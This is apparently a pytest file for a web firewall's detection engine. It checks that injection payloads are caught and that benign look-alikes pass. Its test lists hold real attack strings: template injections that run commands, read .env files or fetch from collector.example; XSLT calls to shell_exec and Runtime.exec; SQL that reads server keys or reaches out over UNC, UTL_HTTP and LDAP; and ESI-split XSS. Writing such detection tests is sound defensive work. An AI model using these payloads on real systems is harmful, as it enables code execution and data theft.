"""Unit: the shapes of the fresh31 first contact.

Template expressions that reach secrets, engine objects or build command strings without a dangerous call name
(``template_exprs``); XSLT stylesheets calling into PHP or Java extension namespaces, and ``document()`` of a local
file (``xslt``); whole SQL statements that reach shares, the network or server files (``sql_statements``, decision
0012 addendum); script split by ESI comments or assembled from ESI variables (``esi``); a query whose name holds a
``javascript:`` URL split at its ``=``. Values are our own; none comes from a corpus."""

from __future__ import annotations

import time

import pytest

from bastion.detection import Context, Engine
from bastion.detection.esi import esi_xss, render
from bastion.detection.fields import request_fields
from bastion.detection.sql_statements import dangerous_statement
from bastion.detection.template_exprs import template_expression
from bastion.detection.xslt import extension_call, local_document
from bastion.http.headers import Headers
from bastion.http.messages import RequestHead

BODY = Context("body", "comment")
CONTEXTS = [BODY, Context("header", "x-note"), Context("cookie", "pref"), Context("query", "q")]

TEMPLATES = [
    "{{ request.session.storage.signer.key }}",
    "{{settings.DATABASES}}",
    "{{ conf.SECRET_KEY }}",
    "{% debug %}",
    "{% include 'registration/password_reset_email.html' %}",
    "{%- extends 'layout.html' -%}",
    "{% load admin_urls %}{% get_admin_log 5 as entries %}{% for x in entries %}{{ x.user.password }}{% endfor %}",
    "{{ _self.env.registerUndefinedFilterCallback('system') }}{{ _self.env.getFilter('uname -a') }}",
    "{{ _self.env.setCache('ftp://files.example:21') }}",
    "{{ ['id', 'system']|sort|first }}{{ _context|join|slice(1,4) }}",
    "{%set a=block(_charset|last)%}",
    "<%= _.templateSettings.interpolate %>",
    "{{= _.escape }}",
    "${= _.VERSION }",
    "{var $probe = 1}{$probe}",
    "{''.getClass().forName('java.lang.System')}",
    "*{T(java.lang.System).getenv()}",
    "${7?lower_abc}${20?upper_abc}",
    "{chr(117)|cat:chr(105)|cat:chr(100)}",
    "${((char)117).toString()+((char)105).toString()}",
    "${new File('/srv/app/.env').text}",
    "${new java.net.URL('http://collector.example/x').getText()}",
    "${'http://collector.example/p'.toURL().text}",
    "[=\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\", \"id\")]",
    "<% require 'pty' %><%= PTY.spawn('id') %>",
    "<% _, out, _ = Open3.popen3('uptime') %><%= out.read %>",
]


@pytest.mark.parametrize("value", TEMPLATES)
def test_template_expressions(engine: Engine, value: str) -> None:
    assert template_expression(value) is not None
    for ctx in CONTEXTS:
        hit = engine.inspect(value, ctx)
        assert hit is not None, (value, ctx)


BENIGN_TEMPLATES = [
    "Please reset the password in settings.",
    "The signer.key rotation is due on Friday",
    "Open the File menu and choose new File (Ctrl+N)",
    "Cast it as (char) 65 in the C code",
    "Use {name} and {date} in the mail merge",
    "Open3.popen3 is the Ruby API for pipes",
    "Run `require 'open3'` at the top of the script",
    "{ \"title\": \"getClass in Java\" }",
    "I said {{ hello }} to my friend",
    "{% comment %} draft {% endcomment %}",
    "Price: {{ 12 }} EUR, new File later",
    "{{ user.name }} closed} the door.password",
    "café ?lower_abc",
    "_.VERSION is 4.17",
]


@pytest.mark.parametrize("value", BENIGN_TEMPLATES)
def test_template_look_alikes_pass(engine: Engine, value: str) -> None:
    assert template_expression(value) is None
    assert engine.inspect(value, BODY) is None


XSLT = '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" {ns}>' \
       '<xsl:template match="/">{body}</xsl:template></xsl:stylesheet>'
STYLESHEETS = [
    XSLT.format(ns='xmlns:p="http://php.net/xsl"', body="<xsl:value-of select=\"p:function('shell_exec','id')\"/>"),
    XSLT.format(ns='xmlns:php="http://php.net/xsl"', body="<xsl:value-of select=\"php:functionString('phpinfo')\"/>"),
    XSLT.format(ns='xmlns:j="http://xml.apache.org/xalan/java/java.lang.Runtime"',
                body='<xsl:variable name="r" select="j:exec(j:getRuntime(), \'uname\')"/>'),
    XSLT.format(ns='xmlns:pb="xalan://java.lang.ProcessBuilder"', body='<xsl:value-of select="pb:new(\'id\')"/>'),
    XSLT.format(ns="", body="<xsl:value-of select=\"R:exec(R:getRuntime(),'hostname')\" "
                           "xmlns:R=\"java:java.lang.Runtime\"/>"),
]


@pytest.mark.parametrize("doc", STYLESHEETS)
def test_xslt_extension_calls(engine: Engine, doc: str) -> None:
    assert extension_call(doc) is not None
    for ctx in CONTEXTS:
        hit = engine.inspect(doc, ctx)
        assert hit is not None and hit.rule.attack == "cmdi", ctx


@pytest.mark.parametrize("target", ["/etc/hostname", "file:///c:/boot.ini", "../../conf/app.xml", "C:\\app\\web.xml"])
def test_xslt_local_document(engine: Engine, target: str) -> None:
    doc = XSLT.format(ns="", body=f"<xsl:copy-of select=\"document('{target}')\"/>")
    assert local_document(doc) is not None
    hit = engine.inspect(doc, BODY)
    assert hit is not None


BENIGN_XSLT = [
    XSLT.format(ns="", body='<xsl:value-of select="concat(name, \': \', price)"/>'),
    XSLT.format(ns='xmlns:ext="http://exslt.org/common"', body='<xsl:copy-of select="ext:node-set($x)"/>'),
    XSLT.format(ns="", body="<xsl:copy-of select=\"document('lookup.xml')\"/>"),
    "We call php:function in our XSLT docs without any stylesheet here.",
    "Runtime:exec is how Saxon names it",
]


@pytest.mark.parametrize("doc", BENIGN_XSLT)
def test_xslt_look_alikes_pass(engine: Engine, doc: str) -> None:
    assert extension_call(doc) is None and local_document(doc) is None
    assert engine.inspect(doc, BODY) is None


STATEMENTS = [
    "BULK INSERT dbo.staging FROM '\\\\files.example\\drop\\rows.csv' WITH (FIELDTERMINATOR = ',');",
    "create table #t (line varchar(200)); bulk insert #t from 'c:\\inetpub\\wwwroot\\web.config'; select * from #t",
    "EXEC master..xp_dirtree '\\\\collector.example\\x', 1, 1",
    "select * from sys.dm_os_file_exists(N'\\\\collector.example\\share\\probe.txt')",
    "DECLARE req utl_http.req; BEGIN req := UTL_HTTP.BEGIN_REQUEST('http://collector.example/'); END;",
    "begin\n  dbms_ldap.init('collector.example', 389);\nend;",
    "SELECT table_to_xml('customers', true, false, '')",
    "select schema_to_xml('public', true, true, '')",
    "SELECT lo_import('/etc/ssl/private/server.key')",
    "select pg_read_binary_file('/var/lib/postgresql/data/pg_hba.conf')",
    "SELECT convert_from(decode('53454c454354202a2046524f4d207573657273', 'hex'), 'UTF8')",
]


@pytest.mark.parametrize("value", STATEMENTS)
def test_whole_dangerous_statements(engine: Engine, value: str) -> None:
    assert dangerous_statement(value) is not None
    for ctx in CONTEXTS:
        hit = engine.inspect(value, ctx)
        assert hit is not None and hit.rule.attack == "sqli", ctx


BENIGN_STATEMENTS = [
    "Bulk insert from the warehouse is scheduled for Monday",
    "please run BULK INSERT staging FROM 'x.csv' tonight",
    "select your table to xml export in the menu",
    "Select the database_to_xml option",
    "```sql\nSELECT query_to_xml('select 1', true, true, '');\n```",
    "SELECT utl_http_status FROM monitoring",
    "Begin the move at the end; utl_ is a prefix",
    "select * from sys.dm_os_wait_stats",
]


@pytest.mark.parametrize("value", BENIGN_STATEMENTS)
def test_statement_look_alikes_pass(engine: Engine, value: str) -> None:
    assert dangerous_statement(value) is None
    assert engine.inspect(value, BODY) is None


ESI = [
    "<sc<!--esi-->ript>prompt(document.domain)</scr<!--esi-->ipt>",
    "<svg onl<!--esi-->oad=con<!--esi-->firm(1)>",
    "<!--esi <img src=x onerror=alert(1)> -->",
    "<esi:assign name=\"t\" value=\"'script'\"/><<esi:vars name=\"$(t)\"/>>alert(2)</<esi:vars name=\"$(t)\"/>>",
]


@pytest.mark.parametrize("value", ESI)
def test_esi_split_script(engine: Engine, value: str) -> None:
    assert esi_xss(value) is not None
    for ctx in CONTEXTS:
        hit = engine.inspect(value, ctx)
        assert hit is not None and hit.rule.attack == "xss", ctx


@pytest.mark.parametrize("value", [
    "Our CDN supports <!--esi--> comments",
    "<!--esi <esi:include src=\"/fragments/header\"/> -->",
    "Résumé of the esi meeting: fine",
    "<esi:assign name=\"x\" value=\"'blue'\"/><p class=\"<esi:vars name=\"$(x)\"/>\">hi</p>",
])
def test_esi_look_alikes_pass(engine: Engine, value: str) -> None:
    assert esi_xss(value) is None
    assert render("<scr<!--esi-->ipt>") == "<script>"


def _head(query: str) -> RequestHead:
    return RequestHead("GET", "/api/items", "/api/items", query, Headers([]))


@pytest.mark.parametrize("query", [
    "x[link](javascript:self.onerror=alert;throw%20origin)",
    "[go](javascript:top.onerror=eval;throw%20'=alert%5Cx281%5Cx29')",
])
def test_query_name_split_at_javascript_assignment(engine: Engine, query: str) -> None:
    assert engine.first(list(request_fields(_head(query), frozenset()))) is not None


@pytest.mark.parametrize("query", ["time=10:30&date=2026-01-02", "a:b=c&lang=en", "ns:id=42&q=shoes+size%2042"])
def test_query_names_with_colons_pass(engine: Engine, query: str) -> None:
    assert engine.first(list(request_fields(_head(query), frozenset()))) is None


def test_long_values_are_linear() -> None:
    size = 128 * 1024
    started = time.process_time()
    template_expression("{{" * (size // 2))
    template_expression(("{% x " + "a" * 395 + "signer.key ") * (size // 410))
    template_expression("'a'" * (size // 3))
    template_expression("[=" + "?" * size)
    template_expression("${ " + "(char)1 } " * (size // 10))
    extension_call("XSL/Transform " + "xmlns:p='java:x' " * (size // 17))
    extension_call("XSL/Transform xmlns:php " + "php:x " * (size // 6))
    local_document("XSL/Transform " + "document('x" * (size // 12))
    dangerous_statement("select " + "utl_tcp.x begin " * 250)
    esi_xss("-->" + "<!--esi" * (size // 7))
    esi_xss("<!--esi-->" * (size // 10))
    esi_xss("<esi:assign name='a' value='b'/>$(a)" * (size // 36))
    assert time.process_time() - started < 1.5
